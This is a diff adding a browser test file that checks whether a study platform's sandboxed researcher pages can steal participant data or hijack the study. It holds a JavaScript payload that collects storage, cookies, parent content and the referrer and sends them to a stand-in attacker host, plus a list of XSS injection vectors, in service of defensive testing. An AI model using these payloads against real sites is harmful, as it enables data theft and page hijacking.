@@ -1,0 +1,262 @@
+"""A researcher's page cannot reach what the page around it keeps, whatever it tries, nor whom it is not
+meant for."""
+
+import json
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from http.server import BaseHTTPRequestHandler
+from typing import Any
+from urllib.parse import unquote
+
+import pytest
+from playwright.sync_api import Page, expect
+
+from tests.browser.conftest import Visitor
+from tests.browser.pages import content, expect_heading, submit
+from tests.browser.site import FrontDoor, serve
+from tests.support.study_world import PAGES, StudyWorld
+
+# What a script would do that somebody got to run: read, and tell.
+STEAL = """
+const loot = [];
+const take = (name, get) => {
+  try { loot.push(name + "=" + get()); } catch (error) { loot.push(name + "!" + error.name); }
+};
+take("own storage", () => JSON.stringify(localStorage));
+take("top storage", () => JSON.stringify(top.localStorage));
+take("parent document", () => parent.document.body.innerHTML);
+take("top document", () => top.document.title);
+take("top address", () => top.location.href);
+take("referrer", () => document.referrer);
+take("ancestors", () => [...location.ancestorOrigins].join());
+take("cookie", () => document.cookie);
+take("leave", () => { top.location = "ATTACKER/left"; });
+take("lead away", () => { parent.location = "ATTACKER/away"; });
+for (const target of [parent, top]) target.postMessage({type: "submit", answers: {forged: "1"}}, "*");
+new Image().src = "ATTACKER/loot?" + encodeURIComponent(loot.join("\\n"));
+"""
+
+
+@dataclass
+class Attacker:
+    """Somebody's server elsewhere; `asked` are the paths that it was asked for."""
+
+    url: str = ""
+    asked: list[str] = field(default_factory=list)
+
+    def make_handler(self, *arguments: Any) -> BaseHTTPRequestHandler:
+        """Notes each request; every page that it serves but /plain runs STEAL."""
+        attacker = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:  # noqa: N802
+                attacker.asked.append(unquote(self.path))
+                script = "" if self.path == "/plain" else STEAL.replace("ATTACKER", attacker.url)
+                page = f"<h1>Elsewhere</h1><script>{script}</script>".encode()
+                self.send_response(200)
+                self.send_header("Content-Type", "text/html")
+                self.send_header("Content-Length", str(len(page)))
+                self.end_headers()
+                self.wfile.write(page)
+
+            do_POST = do_GET  # noqa: N815
+
+            def log_message(self, *_: Any) -> None:
+                """Keeps the tests' output readable."""
+
+        return Handler(*arguments)
+
+
+@pytest.fixture
+def attacker() -> Iterator[Attacker]:
+    """A server of an attacker's."""
+    attacker = Attacker()
+    with serve(attacker.make_handler) as port:
+        attacker.url = f"http://127.0.0.1:{port}"
+        yield attacker
+
+
+@pytest.fixture(params=["sandbox", "own host"])
+def config(request: pytest.FixtureRequest, door: FrontDoor) -> dict[str, Any]:
+    """The two ways to show researchers' pages: in a sandbox of this origin, and at a host of their own."""
+    return {"nextUrl": door.url, "host": request.param}
+
+
+@pytest.fixture
+def site(site: str, config: dict[str, Any]) -> str:
+    """The study page's address; in the second way its pages come from another origin, which this machine
+    has too."""
+    if config["host"] == "own host":
+        config["pagesUrl"] = site.replace("localhost", "127.0.0.1") + "/"
+    return site
+
+
+def open_hostile(world: StudyWorld, visitor: Visitor, attacker: Attacker, html: str) -> Page:
+    """Open a study whose first page holds this, for a participant with the id `victim`."""
+    inline = STEAL.replace("ATTACKER", attacker.url)
+    html = html.replace("ATTACKER", attacker.url).replace("STEAL", inline.replace('"', "&quot;"))
+    html = html.replace("SCRIPT", inline)
+    world.publish({**PAGES, "consent.html": f"<h1>Consent</h1>{html}"})
+    page = visitor.open(userId="victim", PROLIFIC_PID="secret-pid")
+    expect_heading(page, "Consent")
+    page.wait_for_timeout(400)
+    return page
+
+
+def check_unharmed(page: Page, door: FrontDoor, attacker: Attacker) -> None:
+    """The study is still there and goes on; nothing that only its page knows came to the attacker."""
+    told = "\n".join(attacker.asked)
+    assert "victim" not in told
+    assert "secret-pid" not in told
+    assert door.forms() == []
+    assert "victim" in page.url
+    expect_heading(page, "Consent")
+    submit(page)
+    expect_heading(page, "Quiz")
+    assert door.forms()[0].get("forged") is None
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        "<script>SCRIPT</script>",
+        "<script src='ATTACKER/script.js'></script>",
+        '<img src="/missing.png" onerror="STEAL">',
+        '<svg onload="STEAL"></svg><svg><script>SCRIPT</script></svg>',
+        '<details open ontoggle="STEAL">x</details>',
+        '<iframe srcdoc="<script>STEAL</script>" title="x"></iframe>',
+        '<iframe src="javascript:STEAL" title="x"></iframe>',
+        '<object data="ATTACKER/object.html"></object><embed src="ATTACKER/embed.html">',
+        '<meta http-equiv="refresh" content="0; url=ATTACKER/refresh">',
+        '<base href="ATTACKER/"><base target="_top">',
+        '<link rel="prefetch" href="ATTACKER/prefetch"><link rel="import" href="ATTACKER/import">',
+        "<template><script>SCRIPT</script></template>"
+        "<noscript><p title='</noscript><img src=x onerror=\"STEAL\">'>",
+        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=\"STEAL\">'>",
+    ],
+    ids=lambda html: html[:24],
+)
+def test_no_script_of_the_page_runs(
+    world: StudyWorld, door: FrontDoor, visitor: Visitor, attacker: Attacker, html: str
+) -> None:
+    """Given a page with code in it, in whatever form, then none of it runs and the study goes on."""
+    page = open_hostile(world, visitor, attacker, html)
+
+    assert [path for path in attacker.asked if path.startswith("/loot")] == []
+    check_unharmed(page, door, attacker)
+
+
+def test_an_embedded_page_reads_nothing_and_leads_nowhere(
+    world: StudyWorld, door: FrontDoor, visitor: Visitor, attacker: Attacker
+) -> None:
+    """Given an embedded page from elsewhere, which may run scripts, then it learns the site's name at
+    most."""
+    frame = '<iframe src="ATTACKER/embedded" referrerpolicy="unsafe-url" title="film" width="200"></iframe>'
+
+    page = open_hostile(world, visitor, attacker, frame)
+
+    [loot] = [path for path in attacker.asked if path.startswith("/loot")]
+    for refused in ("top storage", "parent document", "top document", "top address", "leave"):
+        assert f"{refused}!SecurityError" in loot
+    assert not [path for path in attacker.asked if path in ("/left", "/away")]
+    check_unharmed(page, door, attacker)
+
+
+def test_links_open_elsewhere_and_tell_nothing(
+    world: StudyWorld, door: FrontDoor, visitor: Visitor, attacker: Attacker
+) -> None:
+    """Given links and buttons that lead away, when they are clicked, then the study stays and no address
+    is told."""
+    page = open_hostile(
+        world,
+        visitor,
+        attacker,
+        '<a href="ATTACKER/plain" target="_top">more</a> <a href="javascript:STEAL">run</a>'
+        '<p id="below">below</p><a href="#below">down</a>',
+    )
+    with visitor.context.expect_page() as opened:
+        content(page).get_by_role("link", name="more").click()
+    opened.value.wait_for_url("**/plain")
+    assert opened.value.evaluate("[opener, document.referrer].join('|')") == "|"
+    opened.value.close()
+    content(page).get_by_role("link", name="run").click()
+    content(page).get_by_role("link", name="down").click()
+    page.wait_for_timeout(200)
+
+    assert [path for path in attacker.asked if path.startswith("/loot")] == []
+    check_unharmed(page, door, attacker)
+
+
+def test_a_form_cannot_be_sent_elsewhere(
+    world: StudyWorld, door: FrontDoor, visitor: Visitor, attacker: Attacker
+) -> None:
+    """Given a button with an address of its own, when it is clicked, then the answers go to the study
+    alone."""
+    page = open_hostile(
+        world,
+        visitor,
+        attacker,
+        '<form action="ATTACKER/form" method="post" target="_top"><input name="a" value="1">'
+        '<button formaction="ATTACKER/button" formtarget="_top">Go</button></form>',
+    )
+
+    content(page).get_by_role("button", name="Go").click()
+
+    expect_heading(page, "Quiz")
+    assert door.forms() == [{"a": "1"}]
+    assert attacker.asked == []
+
+
+def test_a_frame_that_was_led_away_is_brought_back(
+    world: StudyWorld, door: FrontDoor, visitor: Visitor, attacker: Attacker
+) -> None:
+    """Given a frame in which another document was loaded, then the study's page is there again, what was
+    typed too."""
+    world.publish({**PAGES, "consent.html": '<h1>Consent</h1><input name="a" aria-label="a">'})
+    page = visitor.open(userId="victim")
+    content(page).get_by_label("a").fill("typed")
+    before = door.requests.copy()
+
+    page.evaluate(f"document.querySelector('iframe.researcher-page').src = '{attacker.url}/away'")
+
+    expect_heading(page, "Consent")
+    expect(content(page).get_by_label("a")).to_have_value("typed")
+    assert door.requests == before
+    assert "victim" not in "\n".join(attacker.asked)
+
+
+def test_the_page_itself_says_nothing_of_other_studies(
+    world: StudyWorld, visitor: Visitor, config: dict[str, Any]
+) -> None:
+    """Given a browser that has taken part in another study, then the sandbox's storage is not the page's."""
+    world.publish(id="other")
+    page = visitor.open("other")
+    expect_heading(page, "Consent")
+    page.goto(f"{visitor.site}/?projectId=mountain_car")
+    expect_heading(page, "Consent")
+
+    frame = next(frame for frame in page.frames if "frame.html" in frame.url)
+    seen = frame.evaluate(
+        "(() => { try { return JSON.stringify(localStorage); } catch (e) { return e.name; } })()"
+    )
+
+    own_origin = visitor.site.replace("localhost", "127.0.0.1")
+    assert frame.evaluate("origin") == ("null" if config["host"] == "sandbox" else own_origin)
+    assert "hippo-gym" not in seen
+    assert "hippo-gym:userId:other" in page.evaluate("JSON.stringify(localStorage)")
+
+
+def test_a_page_sees_its_own_id_only_where_it_shows_it(
+    world: StudyWorld, visitor: Visitor, attacker: Attacker
+) -> None:
+    """Given a page with the place for a code, then the participant reads their id there and can copy it."""
+    world.publish({**PAGES, "consent.html": '<h1>Code</h1><span class="MTURK_CODE">x</span>'})
+    visitor.context.grant_permissions(["clipboard-read", "clipboard-write"])
+    page = visitor.open(userId="u1")
+
+    expect(content(page).locator("code")).to_have_text("u1")
+    content(page).get_by_role("button", name="Copy").click()
+
+    expect(page.get_by_role("status")).to_have_text("The code is copied.")
+    assert page.evaluate("navigator.clipboard.readText()") == "u1"
+    assert json.loads(page.evaluate("localStorage['hippo-gym:state:mountain_car:u1']"))["step"] == 1
